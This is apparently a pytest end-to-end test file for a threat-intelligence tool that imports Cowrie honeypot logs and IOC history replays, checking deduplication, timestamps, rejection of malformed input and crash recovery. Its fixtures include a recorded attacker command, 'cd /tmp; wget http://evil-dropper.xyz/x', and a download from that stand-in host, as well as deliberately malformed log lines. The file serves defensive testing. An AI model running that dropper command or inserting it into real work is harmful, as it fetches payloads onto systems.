"""Importing logs: what happened is told at its own time, once, however often the log is read and whatever is in it."""

import contextlib
import gzip
import json
import signal
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import PATIENCE_S, Place

LOGS = Path(__file__).parents[2].parent / "shared" / "data" / "logs"
SHA = "ab" * 32


def cowrie(session: str, name: str, address: str = "91.200.1.5", second: int = 0, **fields: Any) -> str:
    base = {"eventid": f"cowrie.{name}", "session": session, "src_ip": address, "sensor": "trap-host"}
    return json.dumps({**base, "timestamp": f"2026-01-02T03:04:{second:02}.000000Z", **fields})


def attack(session: str, address: str) -> list[str]:
    return [
        cowrie(session, "session.connect", address, protocol="ssh"),
        cowrie(session, "login.failed", address, 1, username="root", password="secret-" + session),
        cowrie(session, "command.input", address, 2, input="cd /tmp; wget http://evil-dropper.xyz/x"),
        cowrie(session, "session.file_download", address, 3, shasum=SHA, url="http://evil-dropper.xyz/y"),
        cowrie(session, "session.closed", address, 9),
    ]


HOSTILE = (
    cowrie("b1", "session.connect", "no address \x1b[31m"),
    cowrie("b2", "session.connect", timestamp="2999-01-01T00:00:00Z"),
    cowrie("b3", "session.connect", timestamp="1970-01-01T00:00:00Z"),
    '{"eventid": "cowrie.session.connect", "session": "\\ud800"}',
    "[" * 5_000,
    "\x00\x01",
)


@pytest.mark.parametrize("serving", [False, True])
def test_a_cowrie_log_becomes_visits_at_their_own_times_and_once(
    served: Place, make_place: Callable[[str], Place], serving: bool
) -> None:
    place = served if serving else make_place("alone")
    log = place.write("cowrie.json", "\n".join([*attack("a1", "91.200.1.5"), *HOSTILE, *attack("a2", "91.200.1.6")]))
    command = ("import", "--format", "cowrie", "--source", "honeypot:trap-7", log)
    done = place.json(*command)
    assert (done["format"], done["lines"], done["stored"], done["known"]) == ("cowrie", 16, 2, 0)
    assert (done["new"], sum(done["rejected"].values())) == (6, 6)
    assert not any("secret" in line for line in (place.folder / "cowrie.json.rejected.txt").read_text().splitlines())

    found = place.json("ioc", "get", "91.200.1.5")
    assert (found["category"], found["sources"], found["sightings"]) == ("malware", ["honeypot:trap-7"], 1)
    assert found["firstSeen"] == found["lastSeen"] == "2026-01-02T03:04:09.000Z"
    assert found["metadata"]["trapId"] == "honeypot:trap-7"
    related = {item["value"] for item in found["relatedIocs"]}
    assert related == {"http://evil-dropper.xyz/x", "http://evil-dropper.xyz/y", "evil-dropper.xyz", SHA}

    before = place.json("stats")
    again = place.json(*command)
    assert (again["stored"], again["known"], again["new"]) == (0, 2, 0)
    grown = place.write("cowrie.json", "\n".join([*attack("a1", "91.200.1.5"), *attack("a3", "91.200.1.5")]))
    assert place.json(*command[:-1], grown)["stored"] == 1
    after = place.json("stats")
    assert after["totalIocs"] == before["totalIocs"]
    assert place.json("ioc", "get", "91.200.1.5")["sightings"] == 2


def test_several_logs_come_one_after_another(served: Place) -> None:
    names = [served.write(f"{day}.json", "\n".join(attack(f"d{day}", f"91.201.1.{day}"))) for day in (1, 2)]
    done = served.call("import", "--format", "cowrie", "--source", "honeypot:days", *names)
    assert done.stdout.count(b"5 lines as cowrie, 1 values") == 2
    refused = served.call("import", "--source", "feed:x", "--rejects", "one", *names, code=2)
    assert b"--rejects" in refused.stderr


def test_to_a_server_elsewhere_each_session_goes_as_a_visit(served: Place, make_place: Callable[[str], Place]) -> None:
    key = served.call("key", "create", "trapper", "--scope", "write", "--role", "honeypot").stdout.decode().strip()
    elsewhere = make_place("elsewhere")
    log = elsewhere.write("cowrie.json", "\n".join([*attack("r1", "91.202.1.5"), *HOSTILE]))
    for _ in range(2):
        done = elsewhere.json(
            *("import", "--format", "cowrie", "--source", "trap-9", log, "--url", served.url),
            environ={"TC_API_KEY": key},
        )
        assert (done["sent"], sum(done["rejected"].values())) == (1, 6)
    found = served.json("ioc", "get", "91.202.1.5")
    assert (found["sources"], found["sightings"], found["metadata"]["trapId"]) == (["honeypot"], 1, "trap-9")


@pytest.mark.real_data
@pytest.mark.parametrize(("name", "sessions"), [("cowrie_2017", 451), ("cowrie_2026_raw", 589)])
def test_a_real_log_is_imported_whole(served: Place, name: str, sessions: int) -> None:
    path = LOGS / f"{name}.jsonl.gz"
    if not path.exists():
        pytest.skip("the public threat data is not beside the checkout")
    log = served.write("real.gz", gzip.compress(gzip.decompress(path.read_bytes())))
    command = ("import", "--format", "cowrie", "--source", f"honeypot:{name}", log)
    assert served.json(*command)["stored"] == sessions
    again = served.json(*command)
    assert (again["stored"], again["known"]) == (0, sessions)


def history(first: int, events: int, **more: Any) -> str:
    """Events an hour apart, from 2025 on; every third is of an address seen before."""
    lines = []
    for number in range(first, first + events):
        address = number if number % 3 else number - number % 9
        event = {
            "ts": f"2025-{1 + number // 720 % 12:02}-{1 + number // 24 % 28:02}T{number % 24:02}:00:00Z",
            "value": f"45.{address >> 16}.{address >> 8 & 255}.{address & 255}",
            "type": "ip",
            "source": "tweetfeed",
            "reporter": f"person {number % 5}",
            "tags": ["c2"],
            "ref": f"tweet:{number // 4}",
        }
        lines.append(json.dumps({**event, **more}) + "\n")
    return "".join(lines)


@pytest.mark.parametrize("serving", [False, True])
def test_a_history_is_told_again_with_its_own_times_and_once(
    served: Place, make_place: Callable[[str], Place], serving: bool
) -> None:
    place = served if serving else make_place("alone")
    seen = {"ts": "2025-03-01T10:00:00Z", "value": "hxxp://bad-history[.]xyz/x", "type": "url", "source": "urlhaus"}
    first = {**seen, "reporter": "Somebody\x1b", "tags": ["elf"], "ref": "urlhaus:1", "extra": {"threat": "x"}}
    bad = [{**seen, "ts": "2999-01-01T00:00:00Z"}, {**seen, "type": "planet"}, {**seen, "value": "?"}, {"ts": 1}]
    later = {**seen, "ts": "2025-04-01T10:00:00Z", "reporter": "another"}
    lines = [first, first, *bad, later]
    name = place.write("history.jsonl", "\n".join(map(json.dumps, lines)))

    done = place.json("import", "--replay", name)
    assert (done["stored"], done["known"], done["new"], sum(done["rejected"].values())) == (3, 0, 1, 4)
    found = place.json("ioc", "get", "http://bad-history.xyz/x")
    assert (found["category"], found["sources"], found["sightings"]) == ("malware", ["urlhaus"], 3)
    assert (found["firstSeen"], found["lastSeen"]) == ("2025-03-01T10:00:00.000Z", "2025-04-01T10:00:00.000Z")
    assert (found["metadata"]["ref"], found["tags"]) == ("urlhaus:1", ["elf"])

    again = place.json("import", "--replay", place.write("grown.jsonl", "\n".join(map(json.dumps, [*lines, seen]))))
    assert (again["stored"], again["known"]) == (1, 3)


def test_a_replay_that_is_killed_anywhere_ends_as_one_that_was_not(make_place: Callable[[str], Place]) -> None:
    clean, killed = make_place("clean"), make_place("killed")
    events = history(0, 6_000)
    assert clean.json("import", "--replay", clean.write("history.jsonl", events))["stored"] == 6_000

    killed.write("history.jsonl", events)
    for rows in (1, 2_000):
        process = killed.start("import", "--replay", "history.jsonl")
        killed.wait_for_rows(rows)
        process.kill()
        process.wait()
    server = killed.serve(environ={"TC_RETENTION_DAYS": "0"})
    process = killed.start("import", "--replay", "history.jsonl")
    killed.wait_for_rows(3_500)
    server.stop(signal.SIGKILL)
    process.communicate(timeout=PATIENCE_S)
    done = killed.json("import", "--replay", "history.jsonl")
    assert done["stored"] + done["known"] == 6_000
    assert done["known"] >= 2_000
    assert stored(killed) == stored(clean)


def stored(place: Place) -> list[list[tuple[object, ...]]]:
    """Everything in the database that does not tell when it was stored."""
    queries = (
        "SELECT value, status, category, sightings, first_seen, last_seen, metadata FROM indicator ORDER BY value",
        "SELECT count(*), sum(observed_at) FROM sighting",
        "SELECT * FROM rollup_hour ORDER BY 1, 2, 3",
        "SELECT * FROM rollup_last_seen WHERE indicators <> 0 ORDER BY 1, 2, 3, 4",
        "SELECT * FROM rollup_total ORDER BY 1, 2, 3",
    )
    with contextlib.closing(sqlite3.connect(place.database)) as db:
        return [db.execute(query).fetchall() for query in queries]


def test_a_history_goes_elsewhere_as_reports_of_the_key(served: Place, make_place: Callable[[str], Place]) -> None:
    key = served.call("key", "create", "historian", "--scope", "write", "--role", "community").stdout.decode().strip()
    elsewhere = make_place("elsewhere")
    name = elsewhere.write("history.jsonl", history(9_000, 150) + history(9_200, 1, value="nothing"))
    done = elsewhere.json("import", "--replay", name, "--url", served.url, environ={"TC_API_KEY": key})
    assert (done["values"], sum(done["rejected"].values())) == (151, 1)
    assert served.json("ioc", "get", "45.0.35.41")["lastSeen"].startswith("2025-01-")


def test_a_history_has_its_own_sources(served: Place) -> None:
    name = served.write("history.jsonl", history(0, 1))
    assert b"TC_RETENTION_DAYS" in served.call("import", "--replay", name).stderr
    for option in (("--source", "feed:x"), ("--format", "jsonl")):
        assert b"--replay" in served.call("import", "--replay", name, *option, code=2).stderr
    assert b"--source" in served.call("import", name, code=2).stderr
